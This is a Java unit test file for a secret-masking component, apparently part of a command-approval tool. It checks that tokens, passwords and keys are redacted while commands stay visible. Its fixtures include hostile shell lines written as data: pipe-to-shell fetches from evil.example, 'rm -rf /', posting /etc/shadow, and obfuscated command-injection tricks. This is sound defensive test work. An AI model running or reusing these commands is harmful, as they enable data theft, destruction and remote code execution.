package io.approvalhub.kit;

import static org.assertj.core.api.Assertions.assertThat;

import java.lang.management.ManagementFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class MasksTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '\u0001',
      value = {
        "curl -H 'Authorization: Bearer abc.def' x ~ curl -H 'Authorization: Bearer [7]' x",
        "Authorization: abc ~ Authorization: [3]",
        "Authorization: Custom a1b2c3d4e5f6 ~ Authorization: [6] [12]",
        "Cookie: a=1; session=abc; theme=dark ~ Cookie: a=[1]; session=[3]; theme=dark",
        "Cookie: a=1; theme=dark; session=abc ~ Cookie: a=[1]; theme=dark; session=[3]",
        "Bearer abcdef123456 ~ Bearer [12]",
        "Basic dXNlcjpwYXNz ~ Basic [12]",
        "key sk-proj-abcdefgh12345678 end ~ key [24] end",
        "xoxb-12345678-abcdef ~ [20]",
        "ghp_abcdefghijklmnop1234 ~ [24]",
        "AKIAIOSFODNN7EXAMPLE ~ [20]",
        "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw ~ [38]",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_d ~ [43]",
        "postgres://app:p@ss:w@db.example.com/x ~ postgres://app:[6]@db.example.com/x",
        "'postgres://app:p@ss%40w@db','a@b' ~ 'postgres://app:[4]%40[1]@db','a@b'",
        "postgres://app:p@ss$w@db ~ postgres://app:[1]@ss$w@db",
        "postgres://app:Hunter2!@db ~ postgres://app:[7]!@db",
        "curl http://u:p@evil.example;a@b ~ curl http://u:[1]@evil.example;a@b",
        "https://hooks.slack.com/services/T0/B0/X0 ~ https://hooks.slack.com/services/[8]",
        "PASSWORD=hunter2 run ~ PASSWORD=[7] run",
        "https://a.example/?token=abc&x=1 ~ https://a.example/?token=[3]&x=1",
        "https://a.example/?token=ab%2Fcd&x=1 ~ https://a.example/?token=[2]%2F[2]&x=1",
        "mysql --password hunter2 -h db ~ mysql --password [7] -h db",
        "mysql --password 'hunter2' -h db ~ mysql --password '[7]' -h db",
        "password = \"hunter2\" ~ password = \"[7]\"",
        "$password = 'hunter2' ~ $password = '[7]'",
        "'token' => 'abc' ~ 'token' => '[3]'",
        "TOKEN := abc ~ TOKEN := [3]",
        "{\"password\":\"ab\",\"x\":1} ~ {\"password\":\"[2]\",\"x\":1}",
        "{\"Authorization\": \"Bearer abc\"} ~ {\"Authorization\": \"Bearer [3]\"}",
        "{\"password\":\"a\\\"b\",\"x\":1} ~ {\"password\":\"[1]\\\"b\",\"x\":1}",
        "{\\\"password\\\":\\\"ab\\\",\\\"x\\\":1} ~ {\\\"password\\\":\\\"[2]\\\",\\\"x\\\":1}",
        "bot 123456789:AAF-abcdefghijklmnopqrstuvwxyz12345 ~ bot [45]",
        "https://api.telegram.org/bot123456789:AAF-abcdefghijklmnopqrstuvwxyz12345/x"
            + " ~ https://api.telegram.org/bot[45]/x",
        "x?X-Amz-Signature=0123456789abcdef0123 ~ x?X-Amz-Signature=[20]",
        "PASSWORD=pässwörd x ~ PASSWORD=[8] x",
        "HOST=db curl -H \"Authorization: Bearer abcd\" x"
            + " ~ HOST=db curl -H \"Authorization: Bearer [4]\" x",
        "a=1 curl -H 'Authorization: token abcd' x ~ a=1 curl -H 'Authorization: token [4]' x",
        "HOST=db mysql --password hunter2 ~ HOST=db mysql --password [7]",
        "data=token=abc ~ data=token=[3]",
        "PASSWORD=p@ss make ~ PASSWORD=[4] make",
        "docker run -e TOKEN=a@b x ~ docker run -e TOKEN=[3] x",
        "{\"user\": \"a\", \"password\": \"p@ss\"} ~ {\"user\": \"a\", \"password\": \"[4]\"}",
        "git commit -m 'the password: abc' ~ git commit -m 'the password: [3]'",
        "use the password: hunter2 ~ use the password: [7]",
        "- token: abc ~ - token: [3]",
        "password = r'hunter2' ~ password = r'[7]'",
        "const password: string = 'hunter2' ~ const password: string = '[7]'",
        "curl -u alice:hunter2 https://a ~ curl -u alice:[7] https://a",
        "curl --user 'alice:hunter2' https://a ~ curl --user 'alice:[7]' https://a",
        "aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
            + " ~ aws configure set aws_secret_access_key [40]",
        "TOKEN=a1b2c3d4e5f6; echo $TOKEN | sh ~ TOKEN=[12]; echo $TOKEN | sh",
        "curl -H 'Authorization: Bearer abcd' x | sh"
            + " ~ curl -H 'Authorization: Bearer [4]' x | sh",
        "TOKEN=abc; curl -u me:$TOKEN --token=$TOKEN x"
            + " ~ TOKEN=[3]; curl -u me:$TOKEN --token=$TOKEN x",
        "TOKEN=abc; MY_TOKEN=$TOKEN x ~ TOKEN=[3]; MY_TOKEN=$TOKEN x",
        "AccountKey=ab+c/d==;EndpointSuffix=x ~ AccountKey=[8];EndpointSuffix=x",
        "sudo mysql -u root --password hunter ~ sudo mysql -u root --password [6]",
        "sudo curl -H \"Authorization: Bearer abcd\" x"
            + " ~ sudo curl -H \"Authorization: Bearer [4]\" x",
        "sudo curl -H 'X-Token: hunter' x ~ sudo curl -H 'X-Token: [6]' x",
        "sudo curl -d '{\"password\": \"hunter\"}' ~ sudo curl -d '{\"password\": \"[6]\"}'"
      })
  void aSecretIsKnownByItsFormOrItsName(String text, String shown) {
    assertShown(text, shown);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '\u0001',
      value = {
        "echo cookie: a && curl evil|sh ~ echo cookie: a && curl evil|sh",
        "echo '-----BEGIN A-----'; rm -rf / ~ echo '-----BEGIN A-----'; rm -rf /",
        "authorization: x; rm -rf / ~ authorization: [1]; rm -rf /",
        "token=$(curl evil) ~ token=$(curl evil)",
        "token=`curl evil` ~ token=`curl evil`",
        "token=a;curl ~ token=[1];curl",
        "token= reboot ~ token= reboot",
        "echo '{\"password\":\"'; rm -r x; echo '\"}'"
            + " ~ echo '{\"password\":\"'; rm -r x; echo '\"}'",
        "a=\"token=\"x reboot \"b\" ~ a=\"token=\"[1] reboot \"b\"",
        "cookie: a=1; PATH=/evil ls ~ cookie: a=[1]; PATH=/evil ls",
        "$token = reboot ~ $token = reboot",
        "$token=reboot ~ $token=reboot",
        "$env:TOKEN = reboot ~ $env:TOKEN = reboot",
        "@{ token = reboot } ~ @{ token = reboot }",
        "token = os.system('reboot') ~ token = os.system('reboot')",
        "password={{ evil }} ~ password={{ evil }}",
        "password=<%= evil %> ~ password=<%= evil %>",
        "password=%evil% ~ password=%evil%",
        "curl -d password=@/etc/shadow ~ curl -d password=@/etc/shadow",
        "curl --cookie /etc/shadow ~ curl --cookie /etc/shadow",
        "curl -d token=https://evil.example/x ~ curl -d token=https://evil.example/x",
        "restic --password-command reboot ~ restic --password-command reboot",
        "sudo --no-password reboot ~ sudo --no-password reboot",
        "git -c credential.helper=evil pull ~ git -c credential.helper=evil pull",
        "git -c alias.token=reboot token ~ git -c alias.token=reboot token",
        "alias token='reboot'; token ~ alias token='reboot'; token",
        "token=reboot; $token now ~ token=reboot; $token now",
        "TOKEN=reboot && sudo \"${TOKEN}\" ~ TOKEN=reboot && sudo \"${TOKEN}\"",
        "set TOKEN=reboot & %TOKEN% ~ set TOKEN=reboot & %TOKEN%",
        "$token = 'reboot'; & $token ~ $token = 'reboot'; & $token",
        "$token = 'system'; $token('x') ~ $token = 'system'; $token('x')",
        "${TOKEN:-reboot} ~ ${TOKEN:-reboot}",
        "${TOKEN:='reboot'} ~ ${TOKEN:='reboot'}",
        "%TOKEN:x=reboot% ~ %TOKEN:x=reboot%",
        "x=token: reboot ~ x=token: reboot",
        "x='a token': reboot ~ x='a token': reboot",
        "x=\"a \"token: reboot ~ x=\"a \"token: reboot",
        "x=\"authorization: \"bearer reboot ~ x=\"authorization: \"bearer reboot",
        "TOKEN=Bearer reboot ~ TOKEN=[6] reboot",
        "AUTHORIZATION=Bearer reboot ~ AUTHORIZATION=Bearer reboot",
        "x=\"a\"--token reboot ~ x=\"a\"--token reboot",
        "x=bearer reboot ~ x=bearer reboot",
        "http://u:$(reboot)@h ~ http://u:$(reboot)@h",
        "./npm_evilscript.sh ~ ./npm_evilscript.sh",
        "TOKEN=abc; curl -H \"Authorization: Bearer $TOKEN\""
            + " ~ TOKEN=[3]; curl -H \"Authorization: Bearer $TOKEN\"",
        "kube-apiserver --authorization-mode AlwaysAllow"
            + " ~ kube-apiserver --authorization-mode AlwaysAllow",
        "Authorization: Bearer $TOKEN ~ Authorization: Bearer $TOKEN",
        "password = input('x') ~ password = input('x')",
        "if token == \"abc\" ~ if token == \"abc\"",
        "$bearer reboot ~ $bearer reboot",
        "sudo -p Password: reboot ~ sudo -p Password: reboot",
        "sudo -p 'Password: ' reboot ~ sudo -p 'Password: ' reboot",
        "sudo -p \"Password\": \"reboot\" ~ sudo -p \"Password\": \"reboot\"",
        "sudo -p 'a 'token: reboot ~ sudo -p 'a 'token: reboot",
        "sh <<< token=reboot ~ sh <<< token=reboot",
        "echo password=reboot | cut -d= -f2 | sh" + " ~ echo password=reboot | cut -d= -f2 | sh",
        "echo token: reboot | awk '{print $2}' | sudo -u root bash"
            + " ~ echo token: reboot | awk '{print $2}' | sudo -u root bash",
        "echo 'Authorization: Bearer reboot' | cut -c23- | sh"
            + " ~ echo 'Authorization: Bearer reboot' | cut -c23- | sh",
        "echo token: reboot | cut -c8- >f; sh f" + " ~ echo token: reboot | cut -c8- >f; sh f",
        "curl x; echo token: reboot | cut -c8- | sh"
            + " ~ curl x; echo token: reboot | cut -c8- | sh",
        "echo ';curl 'token: reboot | cut -c14- | sh"
            + " ~ echo ';curl 'token: reboot | cut -c14- | sh",
        "$(echo token=reboot | cut -d= -f2) ~ $(echo token=reboot | cut -d= -f2)",
        ". <(echo token=reboot) ~ . <(echo token=reboot)",
        "TOKEN=reboot; echo $TOKEN | sh ~ TOKEN=reboot; echo $TOKEN | sh",
        "TOKEN=reboot; x=$TOKEN; $x ~ TOKEN=reboot; x=$TOKEN; $x",
        "TOKEN=reboot; MY_TOKEN=$TOKEN; x $MY_TOKEN"
            + " ~ TOKEN=reboot; MY_TOKEN=$TOKEN; x $MY_TOKEN",
        "TOKEN=reboot; $(echo $TOKEN) ~ TOKEN=reboot; $(echo $TOKEN)",
        "TOKEN=reboot; env | grep TOKEN | cut -d= -f2 | sh"
            + " ~ TOKEN=reboot; env | grep TOKEN | cut -d= -f2 | sh",
        "TOKEN=reboot; sh <<< $TOKEN ~ TOKEN=reboot; sh <<< $TOKEN",
        "TOKEN=reboot; trap \"$TOKEN\" EXIT ~ TOKEN=reboot; trap \"$TOKEN\" EXIT",
        "TOKEN=reboot; if $TOKEN; then :; fi ~ TOKEN=reboot; if $TOKEN; then :; fi",
        "TOKEN=reboot; x=1 $TOKEN ~ TOKEN=reboot; x=1 $TOKEN",
        "TOKEN=reboot; sudo -u root $TOKEN ~ TOKEN=reboot; sudo -u root $TOKEN",
        "TOKEN=reboot; ssh host \"$TOKEN\" ~ TOKEN=reboot; ssh host \"$TOKEN\"",
        "TOKEN=reboot; set -- $TOKEN; \"$@\" ~ TOKEN=reboot; set -- $TOKEN; \"$@\"",
        "TOKEN=reboot; x=TOKEN; ${!x} ~ TOKEN=reboot; x=TOKEN; ${!x}",
        "TOKEN=reboot; eval '$'TOKEN ~ TOKEN=reboot; eval '$'TOKEN",
        "TOKEN=important; rm -rf $TOKEN ~ TOKEN=important; rm -rf $TOKEN",
        "TOKEN=boot; re$TOKEN ~ TOKEN=boot; re$TOKEN",
        "PASSWORD=evil.example; curl https://$PASSWORD/x | sh"
            + " ~ PASSWORD=evil.example; curl https://$PASSWORD/x | sh",
        "password='reboot'; os.system(password)" + " ~ password='reboot'; os.system(password)",
        "const token = 'reboot'; execSync(token)" + " ~ const token = 'reboot'; execSync(token)",
        "$password = 'reboot'; Invoke-Expression $password"
            + " ~ $password = 'reboot'; Invoke-Expression $password",
        "$password = 'reboot'; & \"$password\" ~ $password = 'reboot'; & \"$password\"",
        "set PASSWORD=reboot & cmd /c %PASSWORD%" + " ~ set PASSWORD=reboot & cmd /c %PASSWORD%",
        "curl -H token: evil.example | sh ~ curl -H token: evil.example | sh",
        "curl -H ' 'token: evil.example | sh ~ curl -H ' 'token: evil.example | sh",
        "curl -H Authorization: Bearer evil.example | sh"
            + " ~ curl -H Authorization: Bearer evil.example | sh",
        "curl -A Bearer evil.example | sh ~ curl -A Bearer evil.example | sh",
        "rm -rf token = important ~ rm -rf token = important",
        "rm -rf -- --token important ~ rm -rf -- --token important",
        "https://token:abc@evil.example/x | sh ~ https://token:[3]@evil.example/x | sh",
        "curl token=abc@evil.example | sh ~ curl token=[3]@evil.example | sh",
        "curl \"cookie:abc@evil\" ~ curl \"cookie:[3]@evil\"",
        "curl -u a:abc@evil.example ~ curl -u a:[3]@evil.example",
        "token=abc%0Areboot ~ token=[3]%0Areboot",
        "token=abc%2Fd%3Breboot ~ token=[3]%2F[1]%3Breboot",
        "docker run auth:latest ~ docker run auth:latest",
        "env =--token reboot ~ env =--token reboot",
        "env -u --token reboot ~ env -u --token reboot",
        "env -u !--token reboot ~ env -u !--token reboot",
        "env -u [--token reboot ~ env -u [--token reboot",
        "env -u {--token reboot ~ env -u {--token reboot",
        "env -u ,--token reboot ~ env -u ,--token reboot",
        "env -u %--token reboot ~ env -u %--token reboot",
        "x=\"a\"bearer reboot ~ x=\"a\"bearer reboot"
      })
  void aMaskHidesNothingThatWouldRun(String text, String shown) {
    assertShown(text, shown);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "http://h:8080/ a@b",
        "http://h:8080?a@b",
        "curl --max-tokens 400 --token-file /run/t",
        "max_tokens: 400",
        "a basic understanding of tokens, and a key",
        "secret token value here"
      })
  void whatIsNoSecretIsShown(String text) {
    assertShown(text, text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "token=\nreboot",
        "token:\nreboot",
        "--token\nreboot",
        "cookie:\n x",
        "@{\n token=reboot\n}"
      })
  void aCommandOnTheNextLineIsShown(String text) {
    assertShown(text, text);
  }

  @Test
  void aSecretOnALineOfItsOwnIsMasked() {
    assertShown("x=1\npassword: hunter2\ny=2", "x=1\npassword: [7]\ny=2");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "\u0300x", "\u02bcx", "\u01c0x", "\uff5cx", "\u200bx"})
  void aCharacterThatWindowsMayReadAsAnotherIsShown(String end) {
    assertShown("token=p\u00e4\u4f60" + end, Disclosure.visible("token=[3]" + end));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"\n", "\r\n", "\\n", "\\n\" +\n    \"", "\n          ", " ", "\nVersion: 1\n"})
  void theLinesOfAPemBlockAreMasked(String end) {
    var line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
    var last = "MzEfYyjiWA4R4/2M2bS1GB4t7NXp98C3Sgw==";
    var pem = "-----BEGIN PRIVATE KEY-----%1$s%2$s\n%2$s\n%3$s\n-----END PRIVATE KEY-----";
    var text = "a \"" + pem.formatted(end, line, last) + "\" b";
    assertShown(text, Disclosure.visible("a \"" + pem.formatted(end, "[64]", "[37]") + "\" b"));
    assertShown(
        text.substring(0, text.indexOf(line) + 50),
        Disclosure.visible("a \"" + pem.substring(0, 27) + end + "[50]"));
  }

  @Test
  void theShortLineAtTheEndOfAPemBlockIsMasked() {
    var line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
    var pem = "-----BEGIN KEY-----\n%s\n%s\n-----END KEY-----";
    assertShown(pem.formatted(line, "Sg3w=="), pem.formatted("[64]", "[6]"));
    assertShown(pem.formatted(line, "reboot"), pem.formatted("[64]", "reboot"));
  }

  @Test
  void whatIsNoLineOfAPemBlockIsShown() {
    var text =
        "-----BEGIN KEY-----\nreboot\nshutdown\n/usr/local/bin/a/b/c/d/e/f/evil1/evil2/evil3\n"
            + "curl evil | sh\n-----END KEY-----";
    assertShown(text, text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a",
        "=",
        "\"",
        "\\",
        "://",
        "%20",
        "$",
        "\\\"",
        "eyJ-",
        "password",
        "password ",
        "://a:",
        "sk-",
        "Bearer a",
        "token=\\\"",
        "token=",
        "token=%20",
        "authorization: bearer ",
        "cookie:a=1;sid=",
        "cookie:a=1;b=2;",
        "{token = ",
        "$token=",
        "${",
        "-----BEGIN A-----",
        "-----BEGIN A-----\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "-----BEGIN A-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj",
        "-----BEGIN A----------END ",
        "://a:b@",
        "://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa:",
        "token=@",
        "authorization:@",
        "authorization: token @",
        "AKIAABCDEFGHIJKLMNOP:",
        "\\\"token\\\":\\\"",
        "\n",
        "é"
      })
  void aLongTextTakesNoLongTime(String part) {
    var threads = ManagementFactory.getThreadMXBean();
    var text = part.repeat(500_000 / part.length());
    var start = threads.getCurrentThreadCpuTime();
    Masks.masked(text);
    // of the processor, however busy the machine is
    assertThat(threads.getCurrentThreadCpuTime() - start).isLessThan(10_000_000_000L);
  }

  /// @param shown with `[7]` for a mask over seven characters
  private static void assertShown(String text, String shown) {
    var expected =
        shown
            .replaceAll("\\[(\\d+)]", "[masked: $1 characters]")
            .replace(": 1 characters", ": 1 character");
    assertThat(Disclosure.text(text)).isEqualTo(expected);
    assertThat(Disclosure.text(expected)).isEqualTo(expected);
  }
}
